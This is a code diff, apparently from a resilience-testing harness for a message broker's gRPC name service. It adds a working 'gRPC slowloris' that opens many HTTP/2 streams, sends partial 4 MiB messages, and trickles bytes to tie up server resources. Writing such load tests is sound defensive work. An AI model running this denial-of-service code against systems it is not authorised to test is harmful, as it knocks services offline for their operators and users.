@@ -372,6 +372,49 @@ def attack_idle_connections(address: str, count: int, seconds: float) -> str:
     return f"{len(clients):,} connected ({failed} failed), {open_:,} still open after {seconds:g} s"
 
 
+def slow_streams(
+    address: str, connections: int, streams: int, held: int, source: str | None = None
+) -> tuple[list[H2Client], list[tuple[H2Client, int]]]:
+    """gRPC slowloris: ``connections`` HTTP/2 connections, each starting up to ``streams``
+    PickupTopicRoute calls whose message announces 4 MiB and sends ``held`` bytes of it (as much as
+    the server's flow-control windows take; none once the connection's is used up), never ending
+    it: :func:`trickle_streams` sends one more byte on each. Returns the connections and the
+    (connection, stream id) of the calls started."""
+    clients: list[H2Client] = []
+    started: list[tuple[H2Client, int]] = []
+    for _ in range(connections):
+        try:
+            client = H2Client(address, window=None, source=source, settle=0.1)
+        except OSError:
+            break
+        clients.append(client)
+        for _ in range(streams):
+            if not client.stream_room(0.2):
+                break
+            stream_id = client.conn.get_next_available_stream_id()
+            client.conn.send_headers(stream_id, client.headers(NS + "PickupTopicRoute"))
+            room = min(client.conn.local_flow_control_window(stream_id), client.conn.max_outbound_frame_size)
+            if room >= 5:  # else the call waits with its headers only (the connection's window is used up)
+                client.conn.send_data(stream_id, b"\x00" + struct.pack(">I", 4 << 20) + bytes(min(held, room) - 5))
+            started.append((client, stream_id))
+        client.flush()
+        client.pump(0)
+    return clients, started
+
+
+def trickle_streams(started: Sequence[tuple[H2Client, int]]) -> None:
+    """One more byte on each stream of :func:`slow_streams` that the server still takes."""
+    for client, stream_id in started:
+        if client.closed:
+            continue
+        with contextlib.suppress(h2.exceptions.H2Error, KeyError):
+            if client.conn.local_flow_control_window(stream_id) > 0:
+                client.conn.send_data(stream_id, b"\x00")
+    for client in {id(c): c for c, _ in started}.values():
+        client.flush()
+        client.pump(0)
+
+
 def hello(broker_name: str, broker_addr: str, cluster: str = "DefaultCluster") -> ns_pb2.OpenBrokerSessionRequest:
     return ns_pb2.OpenBrokerSessionRequest(
         hello=ns_pb2.SessionHello(cluster_name=cluster, broker_name=broker_name, broker_id=0, broker_addr=broker_addr)
